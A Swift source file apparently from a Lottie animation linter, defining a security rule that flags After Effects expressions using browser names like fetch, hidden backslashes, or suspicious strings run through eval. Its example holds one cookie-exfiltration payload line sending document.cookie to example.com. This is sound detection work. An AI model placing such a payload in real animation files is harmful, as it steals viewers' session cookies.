public import PegbarDiagnostics
internal import PegbarLottie

extension Rule {
  /// Suspicious expression.
  package static let expressionSuspicious = Rule(
    .rule(
      "sec/expression-suspicious", .error,
      RulePage(
        title: "Suspicious expression",
        meaning: """
          The expression uses a name that browsers define but After Effects does not, and that \
          gives access to the page, the network or other code. A backslash outside a string can \
          hide such a name. `eval` alone is not reported, because rigs use it to read lists of \
          layer names. Suspicious names in the strings that it runs are reported.
          """,
        effect: "The expression can read the contents of the page and send them to third parties.",
        wayOut: """
          Do not play the file. Ask its author about the purpose of the expression, or delete the \
          expression.
          """)),
    example: .layer(
      #""ks": {"r": {"a": 0, "k": 0, "x": "fetch('https://example.com/?' + document.cookie)"}}"#),
    check: .several([
      .property { property, run in
        guard let expression = property.expression else { return }
        run.reportSuspicious(expression, at: property.source)
      },
      .text { text, run in
        for selector in text.animators.lazy.flatMap(\.selectors) {
          guard let expression = selector.expression else { continue }
          run.reportSuspicious(expression, at: selector.source)
        }
      },
    ]))
}

extension RuleRun {
  fileprivate func reportSuspicious(_ expression: String, at source: SourceID) {
    var words = ScriptWords(expression)
    var suspicious = words.firstSuspicious()
    // Rigs use `eval` to read lists of layer names. Only what it runs can be suspicious.
    if suspicious == nil, expression.contains("eval") {
      var run = ScriptWords(expression, runsStrings: true)
      suspicious = run.firstSuspicious()
    }
    guard let word = suspicious else { return }
    let thing = word == "\\" ? "a backslash outside a string" : "'\(word)'"
    report("the expression uses \(thing), which animations do not require", at: source)
  }
}

extension FindingKind {
  /// Suspicious expression (`sec/expression-suspicious`).
  public static let expressionSuspicious = Rule.expressionSuspicious.pageKind
}
